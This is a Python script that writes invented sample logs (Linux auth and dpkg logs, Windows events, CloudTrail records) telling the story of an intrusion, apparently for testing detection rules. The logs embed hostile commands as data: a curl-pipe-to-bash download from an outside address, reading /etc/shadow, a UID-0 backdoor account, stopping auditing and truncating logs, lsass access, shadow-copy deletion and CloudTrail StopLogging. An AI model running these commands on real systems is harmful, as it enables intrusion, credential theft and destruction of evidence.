# ruff: noqa: INP001, PLR2004, S311 (a script of its own; numbers of an invented story; no keys are made)
"""Writes the sample logs beside this file: `python make_sample.py`. Same seed, same bytes.

Everything is invented: names, machines and events. Addresses are from the documentation ranges of RFC 5737. The
story: on 18 October 2026 somebody guesses the password of `deploy` on app-1, becomes root, stays, covers the traces,
moves on to the Windows machine fin-ws-7 and stops the cloud account's trail. Around it, three weeks of ordinary work.
"""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

SEED = 20261018
HERE = Path(__file__).resolve().parent
FIRST_DAY = datetime(2026, 10, 5, tzinfo=UTC)
DAYS = 21
NIGHT = datetime(2026, 10, 18, 3, 2, 11, tzinfo=UTC)
ATTACKER = "203.0.113.57"
PEOPLE = {"ada": "198.51.100.21", "grace": "198.51.100.34", "linus": "198.51.100.40", "deploy": "192.0.2.10"}
COMMANDS = (
    "/usr/bin/systemctl status app",
    "/usr/bin/apt-get update",
    "/usr/bin/journalctl -u app",
    "/usr/bin/ls /srv",
)
GUESSED = ("admin", "oracle", "postgres", "test", "ubuntu", "git", "pi", "<script>alert(1)</script>")
Line = tuple[datetime, str]


def auth(moment: datetime, program: str, pid: int, message: str) -> Line:
    """One line of auth.log."""
    return moment, f"{moment.isoformat(timespec='microseconds')} app-1.example {program}[{pid}]: {message}"


def login(rng: random.Random, moment: datetime, user: str, address: str, method: str = "publickey") -> Iterator[Line]:
    """A login, with the session it opens and closes."""
    pid, port = rng.randint(1000, 60000), rng.randint(30000, 65000)
    key = (
        ": ED25519 SHA256:" + base64.b64encode(rng.randbytes(32)).decode().rstrip("=") if method == "publickey" else ""
    )
    yield auth(moment, "sshd", pid, f"Accepted {method} for {user} from {address} port {port} ssh2{key}")
    yield auth(moment, "sshd", pid, f"pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)")
    end = moment + timedelta(minutes=rng.randint(3, 90))
    yield auth(end, "sshd", pid, f"pam_unix(sshd:session): session closed for user {user}")


def sudo(moment: datetime, user: str, command: str, target: str = "root") -> Line:
    """A command run through sudo."""
    place = f"TTY=pts/0 ; PWD=/home/{user} ; USER={target} ; COMMAND={command}"
    return auth(moment, "sudo", 4100, f"{user:>8} : {place}")


def ordinary(rng: random.Random) -> Iterator[Line]:
    """Three weeks of work: logins in office hours, a few commands, a mistyped password now and then."""
    for day in range(DAYS):
        start = FIRST_DAY + timedelta(days=day)
        if start.weekday() > 4:
            continue
        for user, address in PEOPLE.items():
            for _ in range(rng.randint(1, 3)):
                moment = start + timedelta(minutes=rng.randint(8 * 60, 17 * 60), seconds=rng.randint(0, 59))
                if rng.random() < 0.08:
                    wrong = moment - timedelta(seconds=9)
                    failed = f"Failed password for {user} from {address} port 50022 ssh2"
                    yield auth(wrong, "sshd", 900, failed)
                yield from login(rng, moment, user, address)
                if user in {"ada", "grace"} and rng.random() < 0.6:
                    yield sudo(moment + timedelta(minutes=2), user, rng.choice(COMMANDS))
        yield from ordinary_oddities(rng, start)
        for hour in range(0, 24, 4):
            cron = start + timedelta(hours=hour, seconds=1)
            yield auth(
                cron, "CRON", 700 + hour, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
            )


def ordinary_oddities(rng: random.Random, start: datetime) -> Iterator[Line]:
    """Things that happen on any host and that rules rightly ask about."""
    moment = start + timedelta(hours=14, minutes=20)
    if start.day == 7:
        yield auth(
            moment, "useradd", 3011, "new user: name=app-worker, UID=1012, GID=1012, home=/srv/app, shell=/bin/false"
        )
    if start.day in {9, 22}:
        yield sudo(moment, "ada", "/bin/bash")
    if start.day in {13, 23}:
        address = f"198.51.100.{200 + start.day}"
        for number in range(14):
            port = rng.randint(30000, 65000)
            failed = f"Failed password for root from {address} port {port} ssh2"
            yield auth(moment + timedelta(seconds=6 * number), "sshd", 8000 + number, failed)
    if start.day == 15:
        wrong = "3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/linus ; USER=root ; COMMAND=/usr/bin/id"
        yield auth(moment, "sudo", 4100, f"   linus : {wrong}")
    if start.day == 20:
        yield sudo(moment, "grace", "/usr/sbin/visudo")


def attack(rng: random.Random) -> Iterator[Line]:
    """The night of 18 October on app-1."""
    moment = NIGHT
    for number in range(38):
        moment += timedelta(seconds=rng.randint(1, 4))
        pid, port = 21000 + number, rng.randint(30000, 65000)
        if number % 4 == 0:
            name = GUESSED[(number // 4) % len(GUESSED)]
            yield auth(moment, "sshd", pid, f"Invalid user {name} from {ATTACKER} port {port}")
            yield auth(moment, "sshd", pid, f"Failed password for invalid user {name} from {ATTACKER} port {port} ssh2")
        else:
            user = ("root", "deploy")[number % 2]
            yield auth(moment, "sshd", pid, f"Failed password for {user} from {ATTACKER} port {port} ssh2")
    moment += timedelta(seconds=30)
    yield from list(login(rng, moment, "deploy", ATTACKER, "password"))[:2]
    steps = (
        (40, sudo, ("deploy", "/usr/bin/cat /etc/shadow")),
        (75, sudo, ("deploy", "/bin/bash")),
        (140, auth, ("useradd", 22110, "new user: name=svc-sync, UID=0, GID=0, home=/var/lib/sync, shell=/bin/bash")),
        (144, auth, ("usermod", 22112, "add 'svc-sync' to group 'sudo'")),
        (144, auth, ("usermod", 22112, "add 'svc-sync' to shadow group 'sudo'")),
        (260, auth, ("crontab", 22140, "(root) REPLACE (root)")),
        (310, sudo, ("deploy", "/usr/bin/sh -c 'curl -s http://203.0.113.80/s.sh | bash'")),
        (420, sudo, ("deploy", "/usr/bin/systemctl stop auditd rsyslog")),
        (455, sudo, ("deploy", "/usr/bin/truncate -s 0 /var/log/auth.log.1 /var/log/syslog")),
    )
    for seconds, make, rest in steps:
        yield make(moment + timedelta(seconds=seconds), *rest)
    yield from list(login(rng, moment + timedelta(seconds=520), "root", ATTACKER))[:2]
    temp = moment + timedelta(days=2, hours=7)
    yield auth(
        temp, "sudo", 4100, "    temp : user NOT in sudoers ; TTY=pts/3 ; PWD=/home/temp ; USER=root ; COMMAND=/bin/ls"
    )


def packages() -> Iterator[str]:
    """dpkg.log: updates, and what the intruder did."""
    updates = ("openssl:amd64 3.0.17-1 3.0.18-1", "tzdata:all 2026b-0 2026c-0", "libc6:amd64 2.36-9 2.36-10")
    for day, package in zip((7, 14, 21), updates, strict=True):
        yield f"2026-10-{day:02} 06:12:04 startup archives unpack"
        yield f"2026-10-{day:02} 06:12:05 upgrade {package}"
        name, _, version = package.split(" ")
        yield f"2026-10-{day:02} 06:12:07 status installed {name} {version}"
        if day == 14:
            yield "2026-10-18 03:11:40 startup archives unpack"
            yield "2026-10-18 03:11:41 install nmap:amd64 <none> 7.93+dfsg1-1"
            yield "2026-10-18 03:11:44 status installed nmap:amd64 7.93+dfsg1-1"
            yield "2026-10-18 03:13:02 startup packages remove"
            yield "2026-10-18 03:13:02 remove auditd:amd64 1:3.0.9-1 <none>"


def windows(rng: random.Random) -> Iterator[dict[str, object]]:
    """Events of fin-ws-7 as a collector writes them, one JSON object each."""
    sysmon, number = "Microsoft-Windows-Sysmon/Operational", 50_000
    start = NIGHT + timedelta(minutes=31)

    def event(moment: datetime, channel: str, event_id: int, provider: str, **data: object) -> dict[str, object]:
        nonlocal number
        number += 1
        stamp = moment.isoformat(timespec="milliseconds").replace("+00:00", "Z")
        head = {"@timestamp": stamp, "Hostname": "fin-ws-7.example", "Channel": channel, "EventID": event_id}
        return head | {"Provider_Name": provider, "EventRecordID": number} | data

    for day in range(DAYS):
        for _ in range(4):
            moment = FIRST_DAY + timedelta(days=day, minutes=rng.randint(8 * 60, 17 * 60))
            program = rng.choice(("EXCEL.EXE", "OUTLOOK.EXE", "msedge.exe"))
            image = f"C:\\Program Files\\Office\\{program}"
            yield event(moment, sysmon, 1, "Microsoft-Windows-Sysmon", Image=image, CommandLine=f'"{image}"',
                        ParentImage="C:\\Windows\\explorer.exe", User="EXAMPLE\\mary")  # fmt: skip
    hidden = base64.b64encode("Get-Process | Out-File C:\\Users\\Public\\p.txt".encode("utf-16-le")).decode()
    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    for seconds in range(0, 132, 11):
        yield event(start + timedelta(seconds=seconds), "Security", 4625, "Microsoft-Windows-Security-Auditing",
                    TargetUserName="mary", IpAddress="192.0.2.10", LogonType=3, Status="0xc000006d")  # fmt: skip
    yield event(start + timedelta(seconds=140), "Security", 4740, "Microsoft-Windows-Security-Auditing",
                TargetUserName="mary", TargetDomainName="APP-1")  # fmt: skip
    yield event(start + timedelta(seconds=400), "System", 7045, "Service Control Manager", ServiceName="SyncHelper",
                ImagePath="C:\\Users\\Public\\sync.exe", ServiceType="user mode service", StartType="auto start",
                AccountName="LocalSystem")  # fmt: skip
    yield event(start + timedelta(seconds=460), sysmon, 1, "Microsoft-Windows-Sysmon", Image=shell,
                CommandLine=f"powershell.exe -nop -w hidden -enc {hidden}", User="NT AUTHORITY\\SYSTEM",
                ParentImage="C:\\Users\\Public\\sync.exe")  # fmt: skip
    yield event(start + timedelta(seconds=520), sysmon, 10, "Microsoft-Windows-Sysmon",
                SourceImage="C:\\Users\\Public\\sync.exe", TargetImage="C:\\Windows\\System32\\lsass.exe",
                GrantedAccess="0x1410", SourceUser="NT AUTHORITY\\SYSTEM")  # fmt: skip
    yield event(start + timedelta(seconds=900), sysmon, 1, "Microsoft-Windows-Sysmon",
                Image="C:\\Windows\\System32\\vssadmin.exe", CommandLine="vssadmin.exe delete shadows /all /quiet",
                User="NT AUTHORITY\\SYSTEM", ParentImage="C:\\Users\\Public\\sync.exe")  # fmt: skip
    yield event(start + timedelta(seconds=930), "Security", 1102, "Microsoft-Windows-Eventlog",
                SubjectUserName="SYSTEM", SubjectDomainName="NT AUTHORITY")  # fmt: skip


def cloud(rng: random.Random) -> Iterator[dict[str, object]]:
    """CloudTrail records of an invented account."""

    def record(moment: datetime, source: str, name: str, user: str, address: str) -> dict[str, object]:
        identity = {"type": "IAMUser", "userName": user, "accountId": "000000000000",
                    "arn": f"arn:aws:iam::000000000000:user/{user}"}  # fmt: skip
        return {"eventVersion": "1.09", "eventTime": moment.strftime("%Y-%m-%dT%H:%M:%SZ"), "eventSource": source,
                "eventName": name, "awsRegion": "eu-central-1", "sourceIPAddress": address, "userIdentity": identity,
                "eventType": "AwsApiCall", "recipientAccountId": "000000000000", "readOnly": name[:3] != "Sto",
                "requestParameters": {"name": "main"} if "Logging" in name else None}  # fmt: skip

    for day in range(DAYS):
        moment = FIRST_DAY + timedelta(days=day, hours=9, minutes=rng.randint(0, 59))
        yield record(moment, "s3.amazonaws.com", "ListBuckets", "deploy", "192.0.2.10")
        yield record(moment + timedelta(minutes=3), "ec2.amazonaws.com", "DescribeInstances", "deploy", "192.0.2.10")
    yield record(NIGHT + timedelta(minutes=72), "sts.amazonaws.com", "GetCallerIdentity", "deploy", ATTACKER)
    yield record(NIGHT + timedelta(minutes=74), "cloudtrail.amazonaws.com", "StopLogging", "deploy", ATTACKER)


def main() -> None:
    """Write the four files."""
    rng = random.Random(SEED)
    lines = sorted([*ordinary(rng), *attack(rng)], key=lambda line: line[0])
    texts = {
        "auth.log": [text for _, text in lines],
        "dpkg.log": sorted(packages()),
        "windows.jsonl": [json.dumps(e) for e in sorted(windows(rng), key=lambda e: str(e["@timestamp"]))],
        "cloudtrail.jsonl": [json.dumps(r) for r in sorted(cloud(rng), key=lambda r: str(r["eventTime"]))],
    }
    for name, content in texts.items():
        (HERE / name).write_text("\n".join(content) + "\n", encoding="utf-8")


if __name__ == "__main__":
    main()
